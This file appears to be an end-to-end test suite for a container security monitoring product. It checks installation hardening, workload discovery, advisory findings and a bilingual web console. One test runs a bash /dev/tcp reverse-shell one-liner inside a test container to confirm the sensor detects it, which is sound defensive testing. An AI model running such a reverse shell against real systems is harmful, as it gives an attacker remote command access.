// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import { existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { ApiClient } from '@bartizan/cli';
import { readStatus } from '@bartizan/cli';
import type { ResponseOf } from '@bartizan/contracts';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accessibilityFaults, openBrowser, signIn, visit } from './console.ts';
import { Stage } from './containers.ts';
import { hiddenLosses, sensorFaults } from './honesty.ts';
import { CHECKOUT, eventually, Product, SHARED } from './product.ts';
import type { Ended } from './run.ts';

const TAG = `bzfr${process.pid % 10_000}`;
/** Pictures of each page in both languages; those of the overview are copied to docs/images for the README. */
const PICTURES = join(CHECKOUT, 'artefacts/first-run');
const NEW_PASSWORD = 'granite-otter-41-Window-lk';
/** Ids that ../shared/advisories/known-answers.json promises for the old packages, as the advisory or an alias of it. */
const EXPECTED_IDS = [
  'GHSA-gxr4-xjj5-5px2',
  'GHSA-jpcq-cgw6-v4j6',
  'GHSA-xvch-5gv4-984h',
  'GHSA-rv95-896h-c2vc',
  'PYSEC-2021-66',
  'PYSEC-2024-67',
  'PYSEC-2024-70',
  'GHSA-mjmj-j48q-9wg2',
];
const FORBIDDEN_IDS = ['GHSA-6c3j-c64m-qhgq', 'GHSA-c2qf-rxjj-qqgw', 'PYSEC-2019-217', 'PYSEC-2024-59'];

const hasMaterial = existsSync(join(SHARED, 'advisories/known-answers.json'));
let product: Product;
let stage: Stage;
let client: ApiClient;
let up: Ended;
let listener: Server;
let browser: Browser | undefined;

type Finding = ResponseOf<'finding.list'>['items'][number];
type Workload = ResponseOf<'workload.list'>['items'][number];

async function all<T>(
  fetch: (cursor?: string) => Promise<{ items: readonly T[]; next?: string | undefined }>,
): Promise<T[]> {
  const items: T[] = [];
  let cursor: string | undefined;
  do {
    const page = await fetch(cursor);
    items.push(...page.items);
    cursor = page.next;
  } while (cursor !== undefined);
  return items;
}

async function workloads(): Promise<Workload[]> {
  const found = await client.call('workload.list', { query: { limit: 500 } });
  if (!found.ok) throw new Error(`${found.error.code} ${found.error.detail}`);
  return [...found.value.items];
}
const mine = (items: readonly Workload[]): Workload[] =>
  items.filter((item) => item.workload.name.startsWith(TAG));

async function findingsOf(id: string): Promise<Finding[]> {
  return all(async (cursor) => {
    const page = await client.call('finding.list', {
      query: { limit: 500, filter: `workload:${id}`, ...(cursor === undefined ? {} : { cursor }) },
    });
    if (!page.ok) throw new Error(`${page.error.code} ${page.error.detail}`);
    return page.value;
  });
}

/** Name, address and a text that only real data brings, of every page of the console. */
async function everyPage(): Promise<readonly (readonly [string, string, string | RegExp])[]> {
  const events = await client.call('event.list', { query: { limit: 50 } });
  const nodes = await client.call('node.list', { query: { limit: 1 } });
  const event = events.ok
    ? events.value.items.find((item) => item.rule === 'runtime.reverse-shell')
    : undefined;
  const node = nodes.ok ? nodes.value.items[0] : undefined;
  const idle = mine(await workloads()).find((item) => item.workload.name === stage.idOf('idle'));
  if (event === undefined || node === undefined || idle === undefined) throw new Error('nothing to look at');
  const workload = `/workloads/${encodeURIComponent(idle.workload.id)}`;
  const vulnerable = (await findingsOf(idle.workload.id)).find((item) => item.package?.name === 'minimist');
  if (vulnerable === undefined) throw new Error('minimist has no finding');
  return [
    ['workloads', '/workloads', stage.idOf('web')],
    ['workload', workload, stage.idOf('idle')],
    ...['processes', 'connections', 'packages', 'findings', 'events'].map(
      (tab) => [`workload-${tab}`, `${workload}?tab=${tab}`, stage.idOf('idle')] as const,
    ),
    ['map', '/map', stage.idOf('shop')],
    ['map-compared', `/map?cmp=${Date.now() - 7_200_000}-${Date.now() - 3_600_000}`, stage.idOf('shop')],
    ['packages', '/images/packages?filter=minimist', 'minimist'],
    ['report', '/findings/report?filter=package:minimist', /minimist/],
    ['events', '/events', stage.idOf('idle')],
    ['event', `/events/${encodeURIComponent(event.id)}`, 'T1059.004'],
    ['findings', '/findings', /minimist|django|jquery|snakeyaml/i],
    ['finding', `/findings/${encodeURIComponent(vulnerable.id)}?by=list`, /minimist/],
    ['control', '/controls/k01-workload-configuration', 'K01'],
    ['nodes', '/nodes', node.name],
    ['node', `/nodes/${encodeURIComponent(node.id)}`, node.name],
    ['audit', '/audit', /session/],
    ...['profile', 'users', 'keys', 'enroll', 'advisories', 'backup', 'api'].map(
      (section) => [`settings-${section}`, `/settings/${section}`, 'Bartizan'] as const,
    ),
    // Nobody added a registry or made an exception: each page says so.
    ['images', '/images', /What is built, where it runs|イメージの中身と/],
    ['registries', '/images/registries', /No registry yet|レジストリはまだありません/],
    ['exceptions', '/findings/exceptions', /No exception yet|例外はまだありません/],
    ['overview', '/', stage.idOf('idle')],
  ];
}

/** Switches the account to a language: the console follows it, though this browser remembers the other one. */
async function chooseLanguage(page: Page, language: 'en' | 'ja'): Promise<void> {
  await page.evaluate(async (wanted) => {
    const session: { csrfToken: string } = JSON.parse(await (await fetch('/api/v1/session')).text());
    await fetch('/api/v1/session', {
      method: 'PATCH',
      headers: { 'content-type': 'application/json', 'x-csrf-token': session.csrfToken },
      body: JSON.stringify({ language: wanted }),
    });
  }, language);
  await page.reload();
  await page.waitForFunction((wanted) => document.documentElement.lang === wanted, language);
}

describe.runIf(process.getuid?.() === 0)('first run', { timeout: 180_000 }, () => {
  beforeAll(async () => {
    if (!hasMaterial) throw new Error(`no advisories in ${SHARED}: set BARTIZAN_SHARED`);
    product = new Product(TAG);
    stage = new Stage(TAG, mkdtempSync(join(tmpdir(), `${TAG}-stage-`)), 10 + (process.pid % 200));
    stage.start('web', ['/bin/busybox', 'httpd', '-f', '-p', '8080', '-h', '/srv/www']);
    const web = stage.containers[0]?.address ?? '';
    stage.start('shop', [
      '/bin/sh',
      '-c',
      `while :; do /bin/busybox wget -q -O /dev/null http://${web}:8080/; /bin/sleep 1; done`,
    ]);
    stage.start('idle', ['/bin/sleep', 'infinity']);
    listener = createServer((socket) => {
      socket.on('error', () => undefined);
      setTimeout(() => socket.end('exit\n'), 3000).unref();
    });
    await new Promise<void>((resolve) => listener.listen(0, stage.hostAddress, resolve));
    up = await product.command(
      'up',
      '--yes',
      '--port',
      '0',
      '--wait-sensor',
      '--wait',
      '180',
      '--runc-root',
      stage.runcRoot,
      '--advisories',
      join(SHARED, 'advisories'),
    );
    if (up.code !== 0) throw new Error(`up: ${up.code}\n${up.stdout}\n${up.stderr}`);
    client = await product.client();
  }, 900_000);

  afterAll(async () => {
    await browser?.close();
    listener?.close();
    stage?.close();
    const end = await product?.close();
    if (end !== undefined && end.code !== 0) throw new Error(`uninstall: ${end.stderr}`);
  }, 120_000);

  it('ends with a box that says what is true', () => {
    expect(up.stdout).toContain(product.url);
    expect(up.stdout).toContain('MONITOR');
    expect(up.stdout).toMatch(/SHA-256 ([0-9A-F]{2}:){31}[0-9A-F]{2}/);
    expect(up.stdout).toContain('one-time-password');
    expect(up.stdout).not.toContain(
      readFileSync(join(product.paths.etc, 'one-time-password'), 'utf8').trim(),
    );
    expect(up.stdout).toMatch(/\d+ packages/);
    process.stdout.write(up.stdout);
  });

  it('runs the controller as its own user, without capabilities, and nothing from a writable path', () => {
    const status = readStatus(product.paths);
    const pids = [status?.controller.pid, status?.agent.pid, status?.supervisor.pid];
    const proc = readFileSync(`/proc/${status?.controller.pid}/status`, 'utf8');
    const uid = Number(/^Uid:\s+(\d+)\s+(\d+)/m.exec(proc)?.[2]);
    expect(uid).toBeGreaterThan(0);
    expect(uid).toBe(statSync(product.paths.controller).uid);
    for (const set of ['CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'])
      expect(proc).toMatch(new RegExp(`^${set}:\\s+0+$`, 'm'));
    expect(proc).toMatch(/^NoNewPrivs:\s+1$/m);
    for (const pid of pids) {
      const program = realpathSync(`/proc/${pid}/exe`);
      const script = readFileSync(`/proc/${pid}/cmdline`, 'utf8')
        .split('\0')
        .find((part) => part.endsWith('.js'));
      for (const start of [program, ...(script === undefined ? [] : [realpathSync(script)])]) {
        for (let path = start; path.length > product.folder.length; path = dirname(path)) {
          const { mode, uid: owner } = statSync(path);
          expect([path, owner, mode & 0o022]).toEqual([path, 0, 0]);
        }
      }
    }
  });

  it('has the sensor running, and says how far each protection reaches', async () => {
    // They are tried once the sensor runs, and come with the next report of the node.
    const node = await eventually('the levels of the node', async () => {
      const nodes = await client.call('node.list');
      if (!nodes.ok) throw new Error(nodes.error.detail);
      return nodes.value.items.find(({ levels }) => levels.some(({ action }) => action === 'exec'));
    });
    expect(node.sensor.state).toBe('running');
    expect(node.levels.find(({ action }) => action === 'package-use')?.level).toBe('detect-only');
  });

  it('shows the three containers as workloads with their processes', async () => {
    const found = await eventually('three workloads', async () => {
      const items = mine(await workloads());
      return items.length === 3 && items.every((item) => item.workload.running === 1) ? items : undefined;
    });
    expect(found.map((item) => item.workload.name).sort()).toEqual(
      ['idle', 'shop', 'web'].map((name) => stage.idOf(name)).sort(),
    );
    const names: Record<string, RegExp> = {
      web: /busybox|httpd/,
      shop: /sh|dash|busybox|sleep/,
      idle: /sleep/,
    };
    for (const [name, pattern] of Object.entries(names)) {
      const id = found.find((item) => item.workload.name === stage.idOf(name))?.workload.id ?? '';
      await eventually(`processes of ${name}`, async () => {
        const rows = await client.call('workload.processes', { params: { id }, query: { limit: 100 } });
        return rows.ok && rows.value.items.some((row) => pattern.test(row.process.name)) ? rows : undefined;
      });
    }
  });

  it('shows the flow from the shop to the web server on the map', async () => {
    const items = mine(await workloads());
    const idOf = (name: string): string =>
      items.find((item) => item.workload.name === stage.idOf(name))?.workload.id ?? '';
    await eventually('the edge', async () => {
      const map = await client.call('map.show');
      if (!map.ok) throw new Error(map.error.detail);
      return map.value.edges.find(
        (edge) =>
          edge.from.includes(idOf('shop')) &&
          edge.to.includes(idOf('web')) &&
          edge.protocols.some((protocol) => protocol.includes('8080')) &&
          edge.applications?.includes('http') === true,
      );
    });
  });

  it('finds exactly the expected advisories in each of them', async () => {
    for (const item of mine(await workloads())) {
      const ids = await eventually(
        `findings of ${item.workload.name}`,
        async () => {
          const findings = await findingsOf(item.workload.id);
          const known = new Set(
            findings.flatMap(({ vulnerability }) =>
              vulnerability === undefined ? [] : [vulnerability.id, ...vulnerability.aliases],
            ),
          );
          return EXPECTED_IDS.every((id) => known.has(id)) ? known : undefined;
        },
        120_000,
      );
      expect(FORBIDDEN_IDS.filter((id) => ids.has(id))).toEqual([]);
    }
  });

  it('sees a reverse shell within a second, attributed, with its chain and its explanation', async () => {
    const address = listener.address();
    const port = typeof address === 'object' && address !== null ? address.port : 0;
    const startedAtMs = Date.now();
    const shell = stage.exec('idle', [
      '/bin/bash',
      '-c',
      `exec /bin/bash -i >& /dev/tcp/${stage.hostAddress}/${port} 0>&1`,
    ]);
    const event = await eventually(
      'the reverse shell',
      async () => {
        const events = await client.call('event.list', { query: { limit: 50, from: startedAtMs - 1000 } });
        if (!events.ok) throw new Error(`${events.error.code} ${events.error.detail}`);
        return events.value.items.find(
          (item) => item.rule.includes('reverse-shell') && item.workload.name === stage.idOf('idle'),
        );
      },
      5000,
      50,
    );
    const seconds = (Date.now() - startedAtMs) / 1000;
    process.stdout.write(`reverse shell: seen through the API after ${seconds.toFixed(2)} s (promise 1 s)\n`);
    expect(event.source).toBe('sensor');
    expect(event.workload.container).toBe(stage.idOf('idle'));
    expect(event.chain?.process.name).toBe('bash');
    expect(event.chain?.ancestors.length).toBeGreaterThan(0);
    expect(event.decision.verdict).toBe('alert');
    expect(event.decision.reasons[0]?.comparisons.length).toBeGreaterThan(0);
    expect(event.attack.length).toBeGreaterThan(0);
    const why = await product.command('why', event.id);
    expect(why.code).toBe(0);
    expect(why.stdout).toContain(event.rule);
    const why2 = await product.command('why', event.id, '--lang', 'ja');
    expect(why2.stdout).toMatch(/[\u3040-\u30ff]/);
    await shell;
  });

  it('has every event from the sensor, and no loss that status does not tell', async () => {
    const events = await client.call('event.list', { query: { limit: 1000 } });
    const nodes = await client.call('node.list');
    if (!events.ok || !nodes.ok) throw new Error('the API does not answer');
    const [node] = nodes.value.items;
    expect(
      sensorFaults(
        node,
        events.value.items.map((item) => item.source),
      ),
    ).toEqual([]);
    const shown = (await product.command('status', '--lang', 'en')).stdout;
    expect(node === undefined ? [] : hiddenLosses(node, shown)).toEqual([]);
  });

  it('tells the same through the CLI', async () => {
    const list = await product.command('workload', 'list', '-o', 'json', '--limit', '500');
    expect(list.code).toBe(0);
    const names = JSON.parse(list.stdout).map((item: Workload) => item.workload.name);
    for (const name of ['web', 'shop', 'idle']) expect(names).toContain(stage.idOf(name));
    expect((await product.command('finding', 'list', '--fail-on', 'critical')).code).toBe(3);
    expect((await product.command('flow', 'list')).stdout).toContain('8080');
    expect((await product.command('audit', 'verify')).code).toBe(0);
    expect((await product.command('scorecard')).stdout.split('\n').length).toBeGreaterThan(10);
    const status = await product.command('status', '-o', 'json');
    expect(JSON.parse(status.stdout).nodes[0].sensor.state).toBe('running');
  });

  it('changes nothing when it is started again', async () => {
    const before = readStatus(product.paths);
    const password = readFileSync(join(product.paths.etc, 'one-time-password'), 'utf8');
    const again = await product.command(
      'up',
      '--yes',
      '--port',
      '0',
      '--runc-root',
      stage.runcRoot,
      '--advisories',
      join(SHARED, 'advisories'),
    );
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('already running');
    expect(readStatus(product.paths)?.controller.pid).toBe(before?.controller.pid);
    expect(readFileSync(join(product.paths.etc, 'one-time-password'), 'utf8')).toBe(password);
    expect(readdirSync(product.paths.releases).length).toBe(1);
  });

  it('shows it in the console, in both languages, accessibly', async () => {
    browser = await openBrowser();
    const oneTime = readFileSync(join(product.paths.etc, 'one-time-password'), 'utf8').trim();
    const page: Page = await signIn(browser, product.url, { oneTime, next: NEW_PASSWORD });
    const faults: string[] = [];
    const pages = await everyPage();
    for (const language of ['en', 'ja'] as const) {
      await chooseLanguage(page, language);
      for (const [name, path, text] of pages) {
        const body = await visit(page, `${product.url}${path}`, text);
        const japanese = /.{0,20}[\u3040-\u30ff]+.{0,20}/.exec(body)?.[0];
        if (language === 'en') expect([path, japanese]).toEqual([path, undefined]);
        else expect([path, japanese]).toEqual([path, expect.any(String)]);
        faults.push(...(await accessibilityFaults(page)).map((fault) => `${language} ${path} ${fault}`));
        await page.screenshot({ path: join(PICTURES, `${name}-${language}.png`) });
      }
    }
    expect(faults).toEqual([]);
  });
});
